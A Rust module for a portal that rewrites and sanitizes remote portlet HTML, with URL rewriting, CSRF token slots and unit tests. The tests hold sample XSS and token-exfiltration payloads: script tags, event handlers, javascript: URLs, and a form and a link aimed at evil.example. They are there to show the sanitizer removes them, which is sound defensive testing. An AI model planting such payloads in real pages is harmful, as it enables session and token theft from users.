//! Remote markup made fit for the consumer's page.
//!
//! Three things happen to every fragment a producer sends:
//!
//! 1. **URLs**: placeholders (`cartable-remote:/action/{tab}/{window}?p.x=1`, see
//!    [`URL_BASE`]) become this window's portal URLs from `ctx.urls()`, keeping only
//!    `mode`, `state` and `p.*` parameters;
//! 2. **CSRF**: the [`CSRF_PLACEHOLDER`] becomes the reader's token;
//! 3. **sanitizing**, unless the producer is trusted: [`ammonia`] keeps formatting, links,
//!    images, tables and forms (inputs, buttons, selects, text areas, labels) with safe
//!    attributes, and drops scripts, styles, frames, event handlers and `javascript:` URLs.
//!    A form action or a relative URL that is not one of this window's portal URLs is
//!    dropped, element ids are moved into the window's namespace, and the CSRF token is
//!    only put into form field values (so a hostile fragment cannot leak it in a link).
//!
//! Steps 1 and 3 depend on the window only, step 2 on the reader: [`Rewriter::prepare`]
//! does 1 and 3 once and leaves slots for the token ([`Prepared`]), so the consumer's
//! cache keeps a fragment ready to serve and only puts each reader's token in.

use std::borrow::Cow;
use std::cell::{Cell, RefCell};
use std::collections::HashSet;
use std::sync::OnceLock;

use ammonia::{UrlRelative, UrlRelativeEvaluate};
use cartable_portlet::markup::escape;
use cartable_portlet::{Mode, PortletContext, PortletUrls, WindowState};

use crate::protocol::{CSRF_PLACEHOLDER, URL_BASE};

/// What a fragment is rewritten for: one window, one reader.
#[derive(Debug, Clone)]
pub struct Rewriter {
    urls: PortletUrls,
    csrf: String,
    namespace: String,
}

/// A fragment rewritten (and sanitized, for an untrusted producer) for one window, with
/// slots where the reader's CSRF token goes: [`Prepared::personalize`] is all that is left
/// to do for each reader. It never holds a token.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Prepared {
    /// The window it was made for (see [`window_target`]).
    target: String,
    /// The markup without the token.
    html: String,
    /// Byte offsets in `html` where the (escaped) token is put, in order.
    slots: Vec<usize>,
}

impl Prepared {
    /// Whether it was prepared for this window (URLs and namespace).
    pub fn is_for(&self, urls: &PortletUrls, namespace: &str) -> bool {
        self.target == window_target(urls, namespace)
    }

    /// The markup with the reader's token in its slots.
    pub fn personalize(&self, csrf: &str) -> String {
        if self.slots.is_empty() {
            return self.html.clone();
        }
        let token = escape(csrf);
        let mut out = String::with_capacity(self.html.len() + self.slots.len() * token.len());
        let mut from = 0;
        for &slot in &self.slots {
            out.push_str(&self.html[from..slot]);
            out.push_str(&token);
            from = slot;
        }
        out.push_str(&self.html[from..]);
        out
    }

    /// Markup in which every `marker` is a token slot.
    fn with_slots(target: String, marked: &str, marker: &str) -> Self {
        let mut html = String::with_capacity(marked.len());
        let mut slots = Vec::new();
        let mut rest = marked;
        while let Some(at) = rest.find(marker) {
            html.push_str(&rest[..at]);
            slots.push(html.len());
            rest = &rest[at + marker.len()..];
        }
        html.push_str(rest);
        Prepared {
            target,
            html,
            slots,
        }
    }
}

/// What identifies the window a fragment is rewritten for: its URLs and its namespace.
fn window_target(urls: &PortletUrls, namespace: &str) -> String {
    format!("{}\n{namespace}", urls.preferences())
}

/// The stand-in for the reader's token while an untrusted fragment is sanitized: random
/// per process and never sent anywhere, so a producer cannot write it into its markup to
/// get the token put elsewhere than into a form field.
fn token_marker() -> &'static str {
    static MARKER: OnceLock<String> = OnceLock::new();
    MARKER.get_or_init(|| format!("cartable-token-slot-{}", cartable_socle::random_token()))
}

impl Rewriter {
    /// For this window's URLs, the reader's CSRF token and the window's namespace
    /// (`w-<window>`).
    pub fn new(urls: PortletUrls, csrf: &str, namespace: &str) -> Self {
        Rewriter {
            urls,
            csrf: csrf.to_string(),
            namespace: namespace.to_string(),
        }
    }

    /// A fragment made fit for this window, trusted (URLs put in, nothing removed) or
    /// not (sanitized too), with slots for the reader's token.
    pub fn prepare(&self, html: &str, trusted: bool) -> Prepared {
        if trusted {
            self.prepare_trusted(html)
        } else {
            self.prepare_sanitized(html)
        }
    }

    /// A trusted fragment with its URLs rewritten; every CSRF placeholder is a slot.
    pub fn prepare_trusted(&self, html: &str) -> Prepared {
        let rewritten = rewrite_placeholders(html, &self.urls);
        Prepared::with_slots(
            window_target(&self.urls, &self.namespace),
            &rewritten,
            CSRF_PLACEHOLDER,
        )
    }

    /// An untrusted fragment sanitized and rewritten; only CSRF placeholders in form field
    /// values become slots, the others are removed.
    pub fn prepare_sanitized(&self, html: &str) -> Prepared {
        let marker = token_marker();
        let marking = Rewriter {
            csrf: marker.to_string(),
            ..self.clone()
        };
        let (clean, placed) = marking.clean(html);
        let target = window_target(&self.urls, &self.namespace);
        if clean.matches(marker).count() > placed {
            // More slots than the sanitizer made: the markup carries the marker itself.
            // No token at all then (its forms will be refused, nothing leaks).
            tracing::warn!("remote markup imitates the token slot; its forms get no token");
            return Prepared {
                target,
                html: clean.replace(marker, ""),
                slots: Vec::new(),
            };
        }
        Prepared::with_slots(target, &clean, marker)
    }

    /// For the window and reader of a portlet call.
    pub fn for_context(ctx: &PortletContext) -> Self {
        Rewriter::new(
            ctx.urls().clone(),
            ctx.csrf_token(),
            &ctx.window().namespace(),
        )
    }

    /// A fragment from a trusted producer: URLs and token put in, nothing removed.
    pub fn trusted(&self, html: &str) -> String {
        self.prepare_trusted(html).personalize(&self.csrf)
    }

    /// A fragment from an untrusted producer: sanitized, URLs and token put in.
    pub fn sanitized(&self, html: &str) -> String {
        self.prepare_sanitized(html).personalize(&self.csrf)
    }

    /// Sanitize with this rewriter's token; also how many times the token was put into a
    /// form field.
    fn clean(&self, html: &str) -> (String, usize) {
        let _current = Sanitizing::enter(self.clone());
        let clean = sanitizer().clean(html).to_string();
        let placed =
            SANITIZING.with_borrow(|current| current.as_ref().map_or(0, |s| s.placed.get()));
        // Whatever placeholder is left is outside a form field: remove it.
        (clean.replace(CSRF_PLACEHOLDER, ""), placed)
    }

    /// The sanitizer's decision on one attribute that survived its allow-lists.
    fn attribute<'v>(
        &self,
        element: &str,
        attribute: &str,
        value: &'v str,
        placed: &Cell<usize>,
    ) -> Option<Cow<'v, str>> {
        match attribute {
            "href" | "src" | "action" | "formaction" | "cite" | "poster" | "data" => {
                if value.trim_start().starts_with(URL_BASE) {
                    return rewrite_url(value.trim(), &self.urls).map(Cow::Owned);
                }
                if matches!(attribute, "action" | "formaction") {
                    // A form posts to this window through the portal, or nowhere.
                    return None;
                }
                Some(Cow::Borrowed(value))
            }
            "method" => {
                let m = value.trim().to_ascii_lowercase();
                matches!(m.as_str(), "get" | "post").then_some(Cow::Owned(m))
            }
            "value" if element == "input" && value.contains(CSRF_PLACEHOLDER) => {
                placed.set(placed.get() + value.matches(CSRF_PLACEHOLDER).count());
                Some(Cow::Owned(value.replace(CSRF_PLACEHOLDER, &self.csrf)))
            }
            "id"
            | "for"
            | "headers"
            | "list"
            | "form"
            | "aria-labelledby"
            | "aria-describedby"
            | "aria-controls"
            | "aria-owns"
            | "aria-activedescendant" => Some(Cow::Owned(self.namespaced(value))),
            _ if value.contains(CSRF_PLACEHOLDER) => {
                Some(Cow::Owned(value.replace(CSRF_PLACEHOLDER, "")))
            }
            _ => Some(Cow::Borrowed(value)),
        }
    }

    /// A relative URL in a sanitized fragment: one of this window's portal URLs, a
    /// fragment link moved into the namespace, or nothing.
    fn relative(&self, url: &str) -> Option<String> {
        if let Some(fragment) = url.strip_prefix('#') {
            return Some(format!("#{}", self.namespaced(fragment)));
        }
        let resource = self.urls.resource("x").to_string();
        let resource_prefix = resource.strip_suffix('x').unwrap_or(&resource);
        let exact = [
            self.urls.page(),
            self.urls.render().to_string(),
            self.urls.action().to_string(),
            self.urls.preferences(),
        ];
        let is_window_url = exact.iter().any(|p| {
            url == p || url.starts_with(&format!("{p}?")) || url.starts_with(&format!("{p}#"))
        }) || url.starts_with(resource_prefix);
        is_window_url.then(|| url.to_string())
    }

    /// Element-id references (space-separated) moved into the window's namespace.
    fn namespaced(&self, value: &str) -> String {
        let prefix = format!("{}-", self.namespace);
        value
            .split_ascii_whitespace()
            .map(|token| {
                if token.starts_with(&prefix) {
                    token.to_string()
                } else {
                    format!("{prefix}{token}")
                }
            })
            .collect::<Vec<_>>()
            .join(" ")
    }
}

thread_local! {
    /// The fragment being sanitized on this thread: whom the shared sanitizer's hooks act
    /// for. Set only during [`Rewriter::clean`] (sanitizing is synchronous).
    static SANITIZING: RefCell<Option<Sanitizing>> = const { RefCell::new(None) };
}

/// What the sanitizer's hooks need while one fragment is cleaned.
struct Sanitizing {
    rewriter: Rewriter,
    /// How many times the token was put into a form field.
    placed: Cell<usize>,
}

impl Sanitizing {
    /// Act for `rewriter` on this thread until the guard is dropped.
    fn enter(rewriter: Rewriter) -> SanitizingGuard {
        SANITIZING.with_borrow_mut(|current| {
            *current = Some(Sanitizing {
                rewriter,
                placed: Cell::new(0),
            });
        });
        SanitizingGuard
    }
}

/// Clears [`SANITIZING`] when sanitizing ends, even by a panic.
struct SanitizingGuard;

impl Drop for SanitizingGuard {
    fn drop(&mut self) {
        SANITIZING.with_borrow_mut(|current| *current = None);
    }
}

/// The sanitizer, built once (building one costs about as much as cleaning a fragment).
/// Its hooks act for the fragment being cleaned on the calling thread; outside of
/// [`Rewriter::clean`] they drop every URL and attribute they are asked about.
fn sanitizer() -> &'static ammonia::Builder<'static> {
    static SANITIZER: OnceLock<ammonia::Builder<'static>> = OnceLock::new();
    SANITIZER.get_or_init(|| {
        let mut builder = ammonia::Builder::default();
        builder
            .add_tags(FORM_TAGS)
            .add_clean_content_tags(DROPPED_WITH_CONTENT)
            .add_generic_attributes(["id", "class", "role", "dir"])
            .generic_attribute_prefixes(HashSet::from(["aria-"]))
            .add_url_schemes([crate::protocol::URL_SCHEME])
            .url_relative(UrlRelative::Custom(Box::new(RelativeUrls)))
            .attribute_filter(|element, attribute, value| {
                SANITIZING.with_borrow(|current| {
                    current
                        .as_ref()
                        .and_then(|s| s.rewriter.attribute(element, attribute, value, &s.placed))
                })
            });
        for (tag, attributes) in FORM_ATTRIBUTES {
            builder.add_tag_attributes(tag, attributes.iter());
        }
        builder
    })
}

/// The sanitizer's hook for relative URLs.
struct RelativeUrls;

impl<'a> UrlRelativeEvaluate<'a> for RelativeUrls {
    fn evaluate<'url>(&self, url: &'url str) -> Option<Cow<'url, str>> {
        SANITIZING.with_borrow(|current| {
            current
                .as_ref()
                .and_then(|s| s.rewriter.relative(url))
                .map(Cow::Owned)
        })
    }
}

/// Form elements kept in sanitized markup (remote portlets post through the portal).
const FORM_TAGS: [&str; 10] = [
    "form", "input", "button", "select", "option", "optgroup", "textarea", "label", "fieldset",
    "legend",
];

/// Elements removed with everything inside them.
const DROPPED_WITH_CONTENT: [&str; 8] = [
    "iframe", "object", "embed", "noscript", "template", "frameset", "noembed", "noframes",
];

/// The attributes each form element keeps (URLs among them are rewritten or dropped).
const FORM_ATTRIBUTES: [(&str, &[&str]); 10] = [
    (
        "form",
        &[
            "action",
            "method",
            "enctype",
            "accept-charset",
            "name",
            "autocomplete",
        ],
    ),
    (
        "input",
        &[
            "type",
            "name",
            "value",
            "checked",
            "disabled",
            "readonly",
            "required",
            "placeholder",
            "maxlength",
            "minlength",
            "min",
            "max",
            "step",
            "size",
            "pattern",
            "autocomplete",
            "multiple",
            "accept",
            "formaction",
            "inputmode",
            "list",
            "form",
        ],
    ),
    (
        "button",
        &["type", "name", "value", "disabled", "formaction", "form"],
    ),
    (
        "select",
        &[
            "name",
            "multiple",
            "disabled",
            "required",
            "size",
            "form",
            "autocomplete",
        ],
    ),
    ("option", &["value", "selected", "disabled", "label"]),
    ("optgroup", &["label", "disabled"]),
    (
        "textarea",
        &[
            "name",
            "rows",
            "cols",
            "maxlength",
            "minlength",
            "placeholder",
            "disabled",
            "readonly",
            "required",
            "wrap",
            "form",
        ],
    ),
    ("label", &["for", "form"]),
    ("fieldset", &["disabled", "name", "form"]),
    ("legend", &[]),
];

/// The portal URL of one placeholder URL, or `None` if it is not a valid placeholder.
///
/// `cartable-remote:/page/{tab}` → the page; `/page/{tab}/{window}?…` → a render URL;
/// `/action/{tab}/{window}?…` → the action URL; `/resource/{tab}/{window}/{id}?…` → a
/// resource URL; `/prefs/{tab}/{window}` → the preference form's URL. The producer's tab
/// and window are ignored: the URL is always this window's.
pub fn rewrite_url(placeholder: &str, urls: &PortletUrls) -> Option<String> {
    let rest = placeholder.strip_prefix(URL_BASE)?;
    let (rest, fragment) = match rest.split_once('#') {
        Some((r, f)) => (r, Some(f)),
        None => (rest, None),
    };
    let (path, query) = rest.split_once('?').unwrap_or((rest, ""));
    let segments: Vec<&str> = path.trim_start_matches('/').split('/').collect();
    let builder = match segments.as_slice() {
        ["page", _tab] => return Some(with_fragment(urls.page(), fragment)),
        ["prefs", _tab, _window] => return Some(with_fragment(urls.preferences(), fragment)),
        ["page", _tab, _window] => urls.render(),
        ["action", _tab, _window] => urls.action(),
        ["resource", _tab, _window, id] if !id.is_empty() => {
            let id = percent_encoding::percent_decode_str(id)
                .decode_utf8()
                .ok()?;
            urls.resource(&id)
        }
        _ => return None,
    };
    let mut builder = builder;
    for (name, value) in form_urlencoded::parse(query.as_bytes()) {
        match name.as_ref() {
            "mode" => {
                if let Ok(m) = value.parse::<Mode>() {
                    builder = builder.mode(m);
                }
            }
            "state" => {
                if let Ok(s) = value.parse::<WindowState>() {
                    builder = builder.state(s);
                }
            }
            other => {
                if let Some(param) = other.strip_prefix("p.").filter(|p| !p.is_empty()) {
                    builder = builder.param(param, value.as_ref());
                }
            }
        }
    }
    Some(with_fragment(builder.to_string(), fragment))
}

fn with_fragment(url: String, fragment: Option<&str>) -> String {
    match fragment {
        Some(f)
            if !f.is_empty()
                && f.bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_') =>
        {
            format!("{url}#{f}")
        }
        _ => url,
    }
}

/// Rewrite every placeholder URL in attribute values of trusted markup, without parsing
/// the HTML: a placeholder is recognised after `="`, `='` or `=`.
fn rewrite_placeholders(html: &str, urls: &PortletUrls) -> String {
    let mut out = String::with_capacity(html.len());
    let mut rest = html;
    while let Some(at) = rest.find(URL_BASE) {
        let (before, from) = rest.split_at(at);
        out.push_str(before);
        let quote = before
            .chars()
            .next_back()
            .filter(|c| *c == '"' || *c == '\'');
        let end = match quote {
            Some(q) => from.find(q),
            None if before.ends_with('=') => Some(
                from.find(|c: char| c.is_ascii_whitespace() || c == '>')
                    .unwrap_or(from.len()),
            ),
            None => None,
        };
        match end {
            Some(end) => {
                let (raw, after) = from.split_at(end);
                match rewrite_url(&unescape_attribute(raw), urls) {
                    Some(url) => out.push_str(&escape(&url)),
                    None => out.push_str(raw),
                }
                rest = after;
            }
            None => {
                // Not an attribute value we can delimit: leave it and go on.
                out.push_str(URL_BASE);
                rest = &from[URL_BASE.len()..];
            }
        }
    }
    out.push_str(rest);
    out
}

fn unescape_attribute(raw: &str) -> String {
    raw.replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&#x27;", "'")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rw() -> Rewriter {
        Rewriter::new(
            PortletUrls::new("/ent", "accueil", "meteo"),
            "TOKEN-1",
            "w-meteo",
        )
    }

    #[test]
    fn placeholders_become_this_windows_urls() {
        let urls = PortletUrls::new("/ent", "accueil", "meteo");
        let r = |s: &str| rewrite_url(s, &urls);
        assert_eq!(
            r("cartable-remote:/page/t"),
            Some("/ent/page/accueil".into())
        );
        assert_eq!(
            r("cartable-remote:/page/t/w?mode=edit&p.q=a+b&evil=1#w-meteo-x"),
            Some("/ent/page/accueil/meteo?mode=edit&p.q=a+b#w-meteo-x".into())
        );
        assert_eq!(
            r("cartable-remote:/action/t/w?p.id=3"),
            Some("/ent/action/accueil/meteo?p.id=3".into())
        );
        assert_eq!(
            r("cartable-remote:/resource/t/w/export%20json?p.k=v"),
            Some("/ent/resource/accueil/meteo/export%20json?p.k=v".into())
        );
        assert_eq!(
            r("cartable-remote:/prefs/t/w"),
            Some("/ent/prefs/accueil/meteo".into())
        );
        assert_eq!(r("cartable-remote:/admin/t/w"), None);
        assert_eq!(
            r("cartable-remote:/page/t/w?mode=root"),
            Some("/ent/page/accueil/meteo".into())
        );
        assert_eq!(
            r("cartable-remote:/page/t/w#\"><script>"),
            Some("/ent/page/accueil/meteo".into())
        );
        assert_eq!(r("https://example.org/"), None);
    }

    #[test]
    fn trusted_markup_gets_urls_and_token_and_nothing_else_changes() {
        let html = r#"<form method="post" action="cartable-remote:/action/t/w?p.a=1&amp;p.b=2"><input type="hidden" name="_csrf" value="cartable-remote-csrf-placeholder"><a href='cartable-remote:/page/t/w?mode=help'>aide</a> <a href=cartable-remote:/page/t>x</a> cartable-remote: in text <b style="color:red">ok</b></form>"#;
        let out = rw().trusted(html);
        assert_eq!(
            out,
            r#"<form method="post" action="/ent/action/accueil/meteo?p.a=1&amp;p.b=2"><input type="hidden" name="_csrf" value="TOKEN-1"><a href='/ent/page/accueil/meteo?mode=help'>aide</a> <a href=/ent/page/accueil>x</a> cartable-remote: in text <b style="color:red">ok</b></form>"#
        );
    }

    #[test]
    fn hostile_markup_loses_scripts_handlers_and_foreign_targets() {
        let html = r#"<script>alert(1)</script><p onclick="steal()" style="background:url(javascript:alert(1))">Hi<img src="x.png" onerror="alert(2)"></p>
<a href="javascript:alert(3)">j</a><a href="JaVaScRiPt:alert(4)">k</a><iframe src="https://evil.example/">frame text</iframe>
<form action="https://evil.example/steal" method="post"><input name="q" value="cartable-remote-csrf-placeholder"></form>
<a href="https://evil.example/?t=cartable-remote-csrf-placeholder">leak</a><a href="/admin">admin</a>
<svg><script>alert(5)</script></svg><object data="x.swf"></object><style>p{}</style>"#;
        let out = rw().sanitized(html);
        for bad in [
            "<script",
            "onclick",
            "onerror",
            "style",
            "javascript",
            "iframe",
            "evil.example/steal",
            "frame text",
            "/admin",
            "<object",
            "alert",
        ] {
            assert!(
                !out.to_ascii_lowercase().contains(&bad.to_ascii_lowercase()),
                "{bad} in {out}"
            );
        }
        assert!(out.contains("<p>Hi<img"), "{out}");
        assert!(
            out.contains(
                r#"<a href="https://evil.example/?t=" rel="noopener noreferrer">leak</a>"#
            ),
            "{out}"
        );
        assert!(
            out.contains(r#"<form method="post"><input name="q" value="TOKEN-1">"#),
            "the token only goes into form fields: {out}"
        );
        assert_eq!(out.matches("TOKEN-1").count(), 1, "{out}");
    }

    #[test]
    fn prepared_fragments_hold_no_token_and_take_each_readers() {
        let html = r#"<form method="post" action="cartable-remote:/action/t/w"><input type="hidden" name="_csrf" value="cartable-remote-csrf-placeholder"><input name="b" value="x cartable-remote-csrf-placeholder"></form><a href="https://evil.example/?t=cartable-remote-csrf-placeholder">l</a><p>cartable-remote-csrf-placeholder</p>"#;
        let urls = PortletUrls::new("/ent", "accueil", "meteo");
        for trusted in [false, true] {
            let prepared = rw().prepare(html, trusted);
            assert!(!prepared.html.contains("TOKEN"), "{prepared:?}");
            assert!(!prepared.html.contains(token_marker()), "{prepared:?}");
            assert!(prepared.is_for(&urls, "w-meteo"));
            assert!(!prepared.is_for(&PortletUrls::new("/ent", "accueil", "autre"), "w-meteo"));
            assert!(!prepared.is_for(&PortletUrls::new("/x", "accueil", "meteo"), "w-meteo"));
            let lea = prepared.personalize("TOKEN-1");
            let paul = prepared.personalize("TOKEN-2");
            assert_eq!(lea.replace("TOKEN-1", "TOKEN-2"), paul);
            let direct = if trusted {
                rw().trusted(html)
            } else {
                rw().sanitized(html)
            };
            assert_eq!(lea, direct);
            if trusted {
                assert_eq!(lea.matches("TOKEN-1").count(), 4, "{lea}");
            } else {
                assert_eq!(lea.matches("TOKEN-1").count(), 2, "form fields only: {lea}");
                assert!(lea.contains(r#"value="x TOKEN-1""#), "{lea}");
            }
            // Token values are escaped like any attribute value.
            assert!(prepared.personalize(r#"a"b"#).contains("a&quot;b"));
        }
    }

    #[test]
    fn markup_imitating_the_token_slot_gets_no_token() {
        let html = format!(
            r#"<form><input name="_csrf" value="cartable-remote-csrf-placeholder"></form><a href="https://evil.example/?t={}">l</a>"#,
            token_marker()
        );
        let out = rw().sanitized(&html);
        assert!(!out.contains("TOKEN-1"), "{out}");
        assert!(!out.contains(token_marker()), "{out}");
    }

    #[test]
    fn sanitized_forms_post_through_the_portal_with_the_token() {
        let html = r##"<form method="POST" action="cartable-remote:/action/t/w?p.x=1"><input type="hidden" name="_csrf" value="cartable-remote-csrf-placeholder"><label for="w-meteo-q">Ville</label><input id="w-meteo-q" name="q" type="text" required><select name="s"><option value="a" selected>A</option></select><textarea name="t" rows="2"></textarea><button type="submit">OK</button></form><a href="cartable-remote:/resource/t/w/csv">csv</a><a href="#top">haut</a><label for="other">x</label>"##;
        let out = rw().sanitized(html);
        assert!(
            out.contains(r#"<form method="post" action="/ent/action/accueil/meteo?p.x=1">"#),
            "{out}"
        );
        assert!(out.contains(r#"value="TOKEN-1""#), "{out}");
        assert!(
            out.contains(r#"<label for="w-meteo-q">"#) && out.contains(r#"id="w-meteo-q""#),
            "{out}"
        );
        assert!(
            out.contains("<select") && out.contains("<textarea") && out.contains("<button"),
            "{out}"
        );
        assert!(
            out.contains(r#"href="/ent/resource/accueil/meteo/csv""#),
            "{out}"
        );
        assert!(out.contains(r##"href="#w-meteo-top""##), "{out}");
        assert!(
            out.contains(r#"for="w-meteo-other""#),
            "ids moved into the namespace: {out}"
        );
    }
}
